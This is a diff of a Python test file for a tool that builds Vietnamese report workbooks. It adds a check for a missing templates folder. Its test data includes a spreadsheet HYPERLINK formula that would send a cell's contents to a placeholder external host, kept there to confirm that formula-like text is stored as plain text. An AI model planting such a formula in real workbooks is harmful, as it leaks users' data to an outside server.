@@ -215,7 +215,7 @@ def test_a_template_carrying_outside_content_is_refused_naming_the_part(province
     assert code == 1 and f"  - {expected}" in output
 
 
-# --- Nothing altered: generated workbooks hold text as text --------------------------------------
+# --- Nothing altered: generated workbooks hold text as text -----------------------------
 
 FORMULA_LIKE = ('=HYPERLINK("http://example.invalid/?"&B3,"bấm")', "+84 912 345 678",
                 "-5% so với năm trước", "@Sở KH&CN", "=1+1")
@@ -263,7 +263,7 @@ def test_a_generated_input_workbook_writes_formula_like_text_as_text(tmp_path):
     assert [ws.cell(r, 1).value for r in range(2, 7)] == list(FORMULA_LIKE)
 
 
-# --- Faults end cleanly -----------------------------------------------------------------------------
+# --- Faults end cleanly ---------------------------------------------------------------------
 
 def test_a_worker_killed_mid_batch_is_that_reports_failure_and_the_others_finish(tmp_path):
     import shutil
@@ -336,3 +336,13 @@ def test_the_pdf_time_limit_grows_with_the_number_of_reports():
 
     assert pdf.START_SECONDS + pdf.SECONDS_PER_REPORT * 40 > 600  # 40 reports: over 10 min
     assert pdf.START_SECONDS + pdf.SECONDS_PER_REPORT < 120  # one report: under 2 min
+
+
+def test_a_missing_templates_folder_is_an_error(province_copy, tmp_path):
+    code, output = run_bounded("build", str(province_copy / "2023"), "--templates",
+                               str(tmp_path / "mau-khong-co"))
+    assert code == 1
+    missing = tmp_path / "mau-khong-co"
+    assert output.splitlines()[0] == (f"Lỗi: không tìm thấy thư mục mẫu “{missing}” (tùy chọn "
+                                      "--templates); hãy kiểm tra lại đường dẫn")
+    assert not (tmp_path / "outputs").exists()
